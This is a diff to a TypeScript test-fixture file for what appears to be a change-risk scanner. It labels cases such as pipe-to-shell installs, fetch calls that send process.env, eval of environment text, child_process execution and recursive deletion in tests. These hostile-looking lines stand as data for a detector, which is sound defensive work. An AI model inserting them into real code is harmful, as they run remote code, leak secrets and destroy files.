@@ -20,6 +20,10 @@ export const FILES: readonly Case[] = [
 ]
 
 export const TEXTS: readonly Case[] = [
+  ['docs/install.md', 'a\n', 'a\n\ncurl -s https://example.org/x | sh\n', ['pipe-to-shell']],
+  ['docs/install.md', 'a\n', 'a\n\nRun `curl https://who.dev/x`, then eval(x).\n', []],
+  ['docs/README.sh', 'a\n', 'a\ncurl https://example.org/x\n', ['network-call']],
+  ['docs/guide.mdx', 'a\n', 'a\n\n<script src="https://who.dev/x.js" />\n', ['new-host']],
   [
     'install.sh',
     null,
@@ -58,7 +62,6 @@ export const TEXTS: readonly Case[] = [
   ['src/hash.ts', 'const rounds = 12\n', 'const rounds = 1\n', ['crypto-weaker']],
   ['src/hash.ts', 'const maxAge = 12\n', 'const maxAge = 90\n', ['limit-changed']],
   ['vitest.config.ts', 'const c = { branches: 90 }\n', 'const c = { branches: 10 }\n', ['threshold-lowered']],
-  ['README.md', '# a\n', '# a\ncurl https://example.org | sh\n', []],
 ]
 
 export const DEPENDENCIES: readonly Case[] = [
@@ -94,6 +97,9 @@ export const CODE: readonly Case[] = [
   ['src/a.ts', 'f()\n', "require('child_process').execSync(x)\n", ['process-new']],
   ['src/a.ts', 'f()\n', 'fetch(u, { body: JSON.stringify(process.env) })\n', ['data-sent', 'environment-read']],
   ['src/a.ts', 'f()\n', 'fetch(u)\n', ['network-call']],
+  ['test/a.test.ts', 'f()\n', 'f()\nfetch(u)\n', ['test-calls-out']],
+  ['test/setup.ts', null, "import { execSync } from 'node:child_process'\nexecSync(x)\n", ['test-calls-out']],
+  ['test/a.test.ts', 'f()\n', "import { rmSync } from 'fs'\nf()\nrmSync(x, { recursive: true })\n", ['test-calls-out']],
   ['src/a.ts', 'fetch(u)\n', 'fetch(v)\n', []],
   ['src/a.ts', 'f()\n', 'eval(process.env.X)\n', ['runs-text']],
   ['src/a.ts', 'f()\n', "new Function('return 1')()\n", ['runs-text']],
